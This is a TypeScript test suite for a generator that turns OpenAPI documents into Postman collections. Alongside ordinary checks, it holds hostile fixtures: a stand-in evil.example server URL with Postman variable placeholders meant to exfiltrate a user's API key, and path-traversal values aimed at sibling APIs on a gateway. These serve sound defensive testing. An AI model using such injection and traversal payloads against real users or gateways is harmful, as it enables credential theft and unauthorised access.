import { readFileSync } from 'node:fs'
import { load } from 'js-yaml'
import { Collection, type Item, type ItemGroup, Variable, type VariableScope } from 'postman-collection'
import { describe, expect, test } from 'vitest'
import { TooLong } from '../budget.ts'
import { outlineOf } from '../document/outline.ts'
import type { Json } from '../json.ts'
import type { CallTarget } from '../request/call-target.ts'
import { collectionPieces } from './collection.ts'

const documents = new URL('../../../../apps/server/documents/', import.meta.url)
const read = (name: string) => load(readFileSync(new URL(name, documents), 'utf8')) as Json

const textOf = (document: Json, targets: CallTarget[] = [], max = 20_000_000) => [...collectionPieces(document, targets, max)].join('')
const collectionOf = (document: Json, targets: CallTarget[] = []) => new Collection(JSON.parse(textOf(document, targets)) as object)

const itemsOf = (collection: Collection): Item[] => {
  const items: Item[] = []
  collection.forEachItem((item) => items.push(item))
  return items
}
const test1: CallTarget = { name: 'TEST', address: 'https://gateway.example/accounts/', auth: 'apikey' }
const prod: CallTarget = { name: 'PROD', address: 'https://prod.example/accounts', auth: 'apikey' }
const secret = 'my-own-secret'
/** As Postman sends it, with the reader's key in its variable: of the collection, or of an environment that another one has filled. */
const resolved = (collection: Collection, item: Item) => {
  collection.variables.upsert(new Variable({ key: 'APIM_API_KEY', value: secret }))
  const scopes = [collection.variables as unknown as VariableScope]
  return item.toObjectResolved(null, scopes, { ignoreOwnVariables: true }) as unknown as { request: { auth: object } }
}

describe('what Postman reads has every operation of a document, at its place', () => {
  test.each(['sample-bank.yaml', 'docker-engine.yaml', 'velo-payments.json', 'swiss-nextgen-banking.json', 'openfigi.json'])(
    '%s',
    (name) => {
      const document = read(name)
      const items = itemsOf(collectionOf(document, [test1]))
      const { groups } = outlineOf(document)
      const written = new Set(groups.flatMap(({ operations }) => operations.map(({ method, path }) => `${method} ${path}`)))
      const asWritten = ({ request }: Item) => {
        const path = request.url.path?.map((part) => (part.startsWith(':') ? `{${part.slice(1)}}` : part)).join('/')
        return `${request.method} /${path}`
      }
      expect(items.length).toBe(written.size)
      expect(items.map(asWritten).filter((one) => !written.has(one) && !/[^/]\{|\}[^/]/.test([...written].join(' ')))).toEqual([])
      expect(items.every(({ request }) => request.url.getHost() === '{{APIM_ADDRESS}}')).toBe(true)
    },
  )
})

const account = { type: 'object', required: ['iban'], properties: { iban: { type: 'string', example: 'CH93' } } }
const accounts = (more: Json = {}, operation: Json = {}): Json => ({
  openapi: '3.1.0',
  info: { title: 'Accounts', version: '2', description: 'All of them' },
  servers: [{ url: 'https://own.example/v2/' }],
  tags: [{ name: 'Read', description: 'Reading' }],
  paths: {
    '/accounts/{accountId}/files/{name}.pdf': {
      post: {
        tags: ['Read', 'Write'],
        summary: 'Add a file',
        parameters: [
          { name: 'accountId', in: 'path', required: true, schema: { type: 'string' } },
          { name: 'name', in: 'path', required: true, schema: { type: 'string', example: 'year end' } },
          { name: 'since', in: 'query', required: true, schema: { type: 'string', example: '2026-01-01' } },
          { name: 'page', in: 'query', description: 'Which page', schema: { type: 'integer' } },
          { name: 'X-Trace', in: 'header', schema: { type: 'string' } },
        ],
        requestBody: { content: { 'application/json': { schema: account } } },
        responses: { 201: { description: 'Added', content: { 'application/json': { schema: account } } }, default: { description: 'No' } },
        ...operation,
      },
    },
  },
  ...more,
})

test('an operation of several tags is there once, with what is required filled in and the rest switched off', () => {
  const collection = collectionOf(accounts(), [test1, prod])
  const [item, ...others] = itemsOf(collection)
  expect(others).toEqual([])
  expect((collection.items.idx(0) as ItemGroup<Item>).name).toBe('Read')
  expect(item?.request.url.toString()).toBe('{{APIM_ADDRESS}}/accounts/ACCOUNT_ID/files/year%20end.pdf?since=2026-01-01')
  expect(item?.request.url.variables.get('accountId')).toBe('ACCOUNT_ID')
  expect(item?.request.url.query.all().map(({ key, disabled }) => [key, disabled ?? false])).toEqual([
    ['since', false],
    ['page', true],
  ])
  expect(item?.request.headers.all().map(({ key, disabled }) => [key, disabled ?? false])).toEqual([
    ['Content-Type', false],
    ['X-Trace', true],
  ])
  expect(JSON.parse(item?.request.body?.raw ?? '')).toEqual({ iban: 'CH93' })
  expect(item?.responses.all().map(({ code, body }) => [code, JSON.parse(body ?? '')])).toEqual([[201, { iban: 'CH93' }]])
})

test('calls go to the first environment that the reader sees, with the key in a variable without a value', () => {
  const collection = collectionOf(accounts(), [test1, prod])
  expect(collection.variables.get('APIM_ADDRESS')).toBe('https://gateway.example/accounts')
  expect(JSON.stringify(collection.variables.one('APIM_ADDRESS'))).toContain('PROD: https://prod.example/accounts')
  expect(collection.variables.get('APIM_API_KEY')).toBe('')
  const [item] = itemsOf(collection)
  expect(item?.request.auth?.parameters().toObject()).toMatchObject({ key: 'apikey', value: '{{APIM_API_KEY}}', in: 'header' })
  const token = itemsOf(collectionOf(accounts(), [{ ...test1, auth: 'oauth2' }]))[0]
  expect([token?.request.auth?.type, token?.request.auth?.parameters().get('token')]).toEqual(['bearer', '{{APIM_ACCESS_TOKEN}}'])
})

test('without a deployment they go to the document’s servers, in the way that it describes', () => {
  const schemes = {
    Key: { type: 'apiKey', in: 'query', name: 'k' },
    Session: { type: 'apiKey', in: 'cookie', name: 'sid' },
    Basic: { type: 'http', scheme: 'basic' },
  }
  const of = (security: object[], more: Json = {}) => {
    const collection = collectionOf(accounts({ components: { securitySchemes: schemes } }, { security, ...more }))
    return { collection, request: itemsOf(collection)[0]?.request }
  }
  const key = of([{ Key: [], Session: [] }])
  expect(key.collection.variables.get('APIM_ADDRESS')).toBe('https://own.example/v2')
  expect(key.request?.auth?.parameters().toObject()).toMatchObject({ key: 'k', in: 'query' })
  expect(key.request?.headers.get('Cookie')).toBe('sid={{API_KEY_own.example}}')
  expect(
    of([{ Basic: [] }])
      .request?.auth?.parameters()
      .toObject(),
  ).toEqual({ username: '{{API_CREDENTIALS_own.example_USERNAME}}', password: '{{API_CREDENTIALS_own.example_PASSWORD}}' })
  expect(of([]).request?.auth?.type ?? 'noauth').toBe('noauth')
  expect(of([], { servers: [{ url: 'https://other.example/' }] }).request?.url.toString()).toMatch(/^https:\/\/other\.example\/accounts\//)
})

test.each(['{{APIM_API_KEY}}', '{{{APIM_API_KEY}}', '{{{{APIM_API_KEY}}}}'])(
  'a variable that a document names is text: the reader’s key goes nowhere but to its place: %s',
  (stolen) => {
    const hostile = accounts(
      {
        servers: [{ url: `https://evil.example/${stolen}` }],
        components: {
          securitySchemes: {
            Key: { type: 'apiKey', in: 'header', name: `x-${stolen}` },
            Query: { type: 'apiKey', in: 'query', name: `q-${stolen}` },
            Session: { type: 'apiKey', in: 'cookie', name: `s-${stolen}` },
          },
        },
        security: [{ Key: [], Query: [], Session: [] }],
      },
      {
        summary: stolen,
        description: stolen,
        servers: [{ url: `https://evil.example/${stolen}` }],
        parameters: [
          { name: 'accountId', in: 'path', required: true, schema: { type: 'string', example: stolen } },
          { name: 'name', in: 'path', required: true, schema: { type: 'string', example: stolen } },
          { name: `q${stolen}`, in: 'query', required: true, schema: { type: 'string', example: stolen } },
          { name: 'X-Trace', in: 'header', required: true, schema: { type: 'string', example: stolen } },
        ],
        requestBody: { content: { 'application/json': { example: { [stolen]: stolen } } } },
      },
    )
    const withoutOwn = { ...hostile, paths: JSON.parse(JSON.stringify(hostile['paths']).replaceAll('"servers"', '"x-servers"')) as Json }
    for (const [targets, from] of [
      [[test1], hostile],
      [[], hostile],
      [[], withoutOwn],
    ] as const) {
      const collection = collectionOf(from, [...targets])
      for (const item of itemsOf(collection)) {
        const { auth, ...request } = resolved(collection, item).request
        expect(JSON.stringify(request)).not.toContain(secret)
        expect(JSON.stringify(auth).includes(secret)).toBe(targets.length > 0)
      }
    }
  },
)

/** Names that the environments of many people have. */
const usual = ['baseUrl', 'url', 'host', 'API_KEY', 'ACCESS_TOKEN', 'API_USERNAME', 'API_PASSWORD', 'token', 'username', 'password']

test('no variable has a name that a reader’s environment may have for something else: its value would go to the document’s server', () => {
  const securitySchemes = {
    Key: { type: 'apiKey', in: 'header', name: 'k' },
    Basic: { type: 'http', scheme: 'basic' },
    Token: { type: 'http', scheme: 'bearer' },
  }
  const security = [{ Key: [], Basic: [], Token: [] }]
  const hosts = ['https://evil.example/', 'https://{{API_KEY}}/', '/v2', '{{API_KEY}}']
  for (const [servers, targets] of [...hosts.map((url) => [[{ url }], []] as const), [[], [test1]] as const]) {
    for (const place of ['document', 'operation']) {
      const text = textOf(
        accounts(
          { components: { securitySchemes }, ...(place === 'document' && { servers }) },
          { security, ...(place === 'operation' && { servers }) },
        ),
        [...targets],
      )
      const named = [...text.matchAll(/\{\{([^{}]*)\}\}/g)].map(([, name]) => name ?? '')
      expect(named.length).toBeGreaterThan(0)
      expect(named.filter((name) => usual.includes(name))).toEqual([])
    }
  }
})

test('a path leads nowhere but below the address of the API, whose gateway has other APIs beside it', () => {
  const at = (path: string, examples: Record<string, string>) =>
    accounts({
      paths: {
        [path]: {
          delete: {
            responses: {},
            parameters: Object.entries(examples).map(([name, example]) => ({
              name,
              in: 'path',
              required: true,
              schema: { type: 'string', example },
            })),
          },
        },
      },
    })
  for (const document of [
    at('/../payments/{id}', { id: '1' }),
    at('/a/%2e%2E/.%2e/payments', {}),
    at('/a\\..\\..\\payments', {}),
    at('/{id}', { id: '../payments' }),
    at('/{id}', { id: '..\\..\\payments' }),
    at('/{id}/{name}', { id: '..', name: '.' }),
    at('/{a}{b}/payments', { a: '.', b: '.' }),
    at('/.{a}/payments', { a: '.' }),
  ]) {
    const [item] = itemsOf(collectionOf(document, [test1]))
    const url = item?.request.url.toString().replace('{{APIM_ADDRESS}}', 'https://gateway.example/accounts') ?? ''
    expect(new URL(url).pathname).toMatch(/^\/accounts\/./)
    expect(decodeURIComponent(new URL(url).pathname.slice('/accounts/'.length))).not.toMatch(/^payments/)
  }
})

test('an answer sends Postman nowhere with the key, and cookies of other APIs at the gateway stay in Postman', () => {
  const [item] = itemsOf(collectionOf(accounts(), [test1]))
  expect((JSON.parse(JSON.stringify(item)) as Json)['protocolProfileBehavior']).toEqual({ followRedirects: false, disableCookies: true })
})

test('answers that are one text many times are counted before they are put together', () => {
  const responses = Object.fromEntries(Array.from({ length: 400 }, (_, at) => [String(100 + at), { $ref: '#/components/responses/One' }]))
  let made = 0
  const example = {
    toJSON: () => {
      made += 1
      return '"'.repeat(100_000)
    },
  }
  const One = { description: 'x', content: { 'application/json': { example } } }
  expect(() => textOf(accounts({ components: { responses: { One } } }, { responses }), [], 1_000_000)).toThrow(TooLong)
  expect(made).toBeLessThan(20)
})

test('it has no scripts, and what would be too long is refused before it is written', () => {
  const text = textOf(accounts({}, { event: [{ listen: 'prerequest', script: { exec: ['x'] } }] }))
  expect(text).not.toContain('"event"')
  expect(() => textOf(accounts(), [], 300)).toThrow(TooLong)
})
